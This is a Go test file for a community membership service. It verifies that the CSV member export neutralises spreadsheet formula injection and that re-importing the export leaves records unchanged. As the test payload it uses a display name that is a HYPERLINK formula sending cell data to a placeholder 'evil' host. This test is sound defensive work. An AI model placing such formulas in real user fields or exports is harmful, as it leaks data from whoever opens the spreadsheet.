package members_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"connectrpc.com/connect"

	membersv1 "github.com/kinshiphq/kinship/gen/kinship/members/v1"
	"github.com/kinshiphq/kinship/gen/kinship/members/v1/membersv1connect"
)

// An attacker joins publicly with a display name that is a spreadsheet
// formula, hoping it runs when an organiser opens the member export. The
// export shows it as text, and importing the export again changes nothing.
func TestFormulaInADisplayNameStaysTextInTheExport(t *testing.T) {
	s := start(t)
	const formula = `=HYPERLINK("http://evil"&A2,"open")`
	status, _, body := s.post(t, membersv1connect.MembersServiceJoinCommunityProcedure, "",
		`{"community":"demo","email":"mallory@example.org","displayName":"=HYPERLINK(\"http://evil\"&A2,\"open\")","interests":["solar"]}`)
	if status != http.StatusOK {
		t.Fatalf("public join = %d %s", status, body)
	}
	s.add(t, &membersv1.JoinCommunityRequest{Email: "ada@example.org", DisplayName: "-Ada", Profile: &membersv1.Profile{Motivation: "+1 for solar\n@everyone"}})

	exported := export(t, s.client)
	rows, err := csv.NewReader(strings.NewReader(exported)).ReadAll()
	if err != nil {
		t.Fatalf("the export is no CSV: %v\n%s", err, exported)
	}
	cells := map[string][]string{}
	for _, row := range rows[1:] {
		cells[row[0]] = row
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if got := cells["mallory@example.org"][1]; got != "'"+formula {
		t.Errorf("display name cell = %q, want it neutralised as %q", got, "'"+formula)
	}

	res, err := importCSV(t, s.client, exported, false)
	if err != nil {
		t.Fatal(err)
	}
	if res.GetUnchanged() != 2 || res.GetCreated()+res.GetUpdated()+res.GetFailed() != 0 {
		t.Errorf("re-importing the export = %v, want both rows unchanged", res)
	}
	mallory := s.memberByEmail(t, "mallory@example.org")
	if mallory.GetDisplayName() != formula || mallory.GetEmailVerified() {
		t.Errorf("after the round trip: %q verified=%v, want the name as typed and the address still unconfirmed", mallory.GetDisplayName(), mallory.GetEmailVerified())
	}
	if ada := s.memberByEmail(t, "ada@example.org"); ada.GetDisplayName() != "-Ada" || ada.GetProfile().GetMotivation() != "+1 for solar\n@everyone" {
		t.Errorf("Ada after the round trip: %q %q", ada.GetDisplayName(), ada.GetProfile().GetMotivation())
	}
	if again := export(t, s.client); again != exported {
		t.Errorf("a second export differs:\n%s\nvs\n%s", again, exported)
	}
}

func export(t *testing.T, c membersv1connect.MembersServiceClient) string {
	t.Helper()
	stream, err := c.ExportMembers(context.Background(), connect.NewRequest(&membersv1.ExportMembersRequest{}))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	for stream.Receive() {
		out.Write(stream.Msg().GetChunk())
	}
	if err := stream.Err(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}
